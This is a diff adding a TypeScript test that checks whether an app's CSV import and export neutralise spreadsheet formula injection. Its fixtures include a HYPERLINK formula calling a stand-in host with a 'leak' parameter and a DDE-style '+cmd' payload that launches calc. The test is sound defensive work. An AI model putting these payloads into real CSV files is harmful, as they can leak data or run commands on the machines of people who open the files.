@@ -305,3 +305,39 @@ describe('one bad record never blocks the rest of a batch', () => {
     expect(connection!.charset).toBe('utf8mb4')
   })
 })
+
+describe('spreadsheet formulas in stored text come out neutralised in every CSV', () => {
+  it('visit export, data dictionary and the rejected rows of an import', async () => {
+    const coordinator = clients.get('coordinator')!
+    const formula = '=HYPERLINK("http://x.example/?leak","open")'
+    const csv = [
+      'farm,village,adopted,farm_size_ha,household_size,note',
+      `CSV-1,${ctx.villageCode},yes,2,5,"${formula.replace(/"/g, '""')}"`,
+      `CSV-2,${ctx.villageCode},no,1,4,@SUM(1+1)`,
+      `CSV-3,${ctx.villageCode},no,-1,4,+cmd|' /C calc'!A0`,
+      `CSV-4,${ctx.villageCode},yes,3,6,- a note that starts with a dash`
+    ].join('\r\n')
+    const imported = await coordinator.post<{ importedCount: number, rejectedCsv: string }>(`/api/rounds/${ctx.round.roundId}/imports`, {
+      csv, fileName: 'formulas.csv', mode: 'valid-only',
+      mapping: { farmCode: 'farm', villageCode: 'village', questions: { adopted: 'adopted', farm_size_ha: 'farm_size_ha', household_size: 'household_size', note: 'note' } }
+    })
+    expect(imported.status).toBe(200)
+    expect(imported.body.importedCount).toBe(3)
+    // The rejected row (a farm size below 0) keeps its negative number, and its formula cell is neutralised.
+    expect(imported.body.rejectedCsv.split('\n')[1]).toMatch(/^CSV-3,[^,]+,no,-1,4,'\+cmd\|' \/C calc'!A0,/)
+
+    const exported = await coordinator.get<string>(`/api/rounds/${ctx.round.roundId}/export?part=visits`)
+    expect(exported.status).toBe(200)
+    const cells = exported.body.split('\n').filter(l => l.startsWith('"') || /^[0-9a-f-]{36},/.test(l)).join('\n')
+    expect(cells).toContain(`"'${formula.replace(/"/g, '""')}"`)
+    expect(cells).toContain('\'@SUM(1+1)')
+    expect(cells).toContain('\'- a note that starts with a dash')
+    // No cell of the export starts with a formula character.
+    for (const line of exported.body.split('\n').filter(l => l && !l.startsWith('#'))) {
+      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) {
+        const text = cell.replace(/,$/, '').replace(/^"|"$/g, '')
+        if (/^[=+@\t\r]/.test(text) || (/^-/.test(text) && !/^-\d/.test(text))) throw new Error(`live formula cell: ${text}`)
+      }
+    }
+  })
+})
